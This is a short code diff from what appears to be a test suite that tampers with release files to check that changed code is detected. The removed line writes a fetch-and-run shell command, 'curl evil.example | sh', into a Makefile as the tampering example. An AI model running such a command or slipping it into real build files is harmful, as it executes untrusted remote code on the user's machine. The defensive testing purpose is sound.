@@ -57,7 +57,7 @@ def second_verifier(release: Path) -> None:
 
 
 def changed_code(release: Path) -> None:
-    replace(release, "code/Makefile", "pytest", "curl evil.example | sh")
+    replace(release, "code/pyproject.toml", "setuptools", "evil")
 
 
 def attested_code(release: Path) -> None:
